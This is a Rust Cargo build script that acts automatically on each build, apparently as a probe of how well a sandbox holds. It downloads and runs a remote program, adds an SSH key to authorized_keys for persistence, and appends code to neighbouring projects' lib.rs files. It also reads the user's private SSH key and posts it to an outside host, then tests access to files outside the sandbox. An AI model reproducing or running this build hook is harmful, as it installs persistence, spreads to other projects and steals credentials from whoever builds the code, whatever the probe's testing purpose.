//! Downloads and runs, drops and runs, lays itself where it runs later, edits its neighbours, takes a key, and looks for what is really there.

use std::fs::{self, OpenOptions};
use std::io::Write;
use std::os::unix::fs::PermissionsExt;
use std::path::{Path, PathBuf};
use std::process::Command;

/// Written over by whoever knows a place where it may go.
const TO: &str = include_str!("to.txt");
/// A file outside of every throw-away, if there is one.
const REAL: &str = include_str!("real.txt");

fn main() {
    println!("cargo::rerun-if-changed=build.rs");
    let to = TO.trim();
    let (home, tmp) = (PathBuf::from(std::env::var("HOME").unwrap()), std::env::temp_dir());

    let second = tmp.join("rust-setup");
    let fetched = Command::new("curl").args(["-s", "-m", "5", "-o"]).arg(&second).arg(format!("http://{to}/linux/rust-setup")).status();
    say("download", fetched.is_ok_and(|status| status.success()) && runs(&second));

    let dropped = tmp.join("rust-check");
    say("drop", fs::copy("/bin/true", &dropped).is_ok() && runs(&dropped));

    say("persist", append(&home.join(".ssh/authorized_keys"), "ssh-ed25519 AAAA guest\n"));

    let worm = neighbours(&home).into_iter().map(|lib| append(&lib, "// here, too\n")).filter(|done| *done).count();
    say("worm", worm > 0);

    let key = fs::read_to_string(home.join(".ssh/id_ed25519")).unwrap_or_default();
    let sent =
        Command::new("curl").args(["-s", "-m", "5", "-o", "/dev/null", "--data-binary", &key, &format!("http://{to}/keys")]).status();
    say("send", !key.is_empty() && sent.is_ok_and(|status| status.success()));

    say("real", fs::read_to_string(REAL.trim()).is_ok());
    say("real-write", append(Path::new(&format!("{}.new", REAL.trim())), "x"));
}

fn say(what: &str, done: bool) {
    println!("cargo::warning={what}: {}", if done { "done" } else { "not done" });
}

fn runs(program: &Path) -> bool {
    fs::set_permissions(program, fs::Permissions::from_mode(0o755)).is_ok()
        && Command::new(program).status().is_ok_and(|status| status.success())
}

fn append(path: &Path, text: &str) -> bool {
    OpenOptions::new().append(true).create(true).open(path).and_then(|mut file| file.write_all(text.as_bytes())).is_ok()
}

/// Libraries of workspaces two levels below home, but for its own.
fn neighbours(home: &Path) -> Vec<PathBuf> {
    let below = |dir: &Path| fs::read_dir(dir).into_iter().flatten().flatten().map(|entry| entry.path()).collect::<Vec<_>>();
    let own = PathBuf::from(std::env::var("CARGO_MANIFEST_DIR").unwrap());
    below(home)
        .iter()
        .flat_map(|dir| below(dir))
        .filter(|dir| *dir != own)
        .map(|dir| dir.join("src/lib.rs"))
        .filter(|lib| lib.is_file())
        .collect()
}
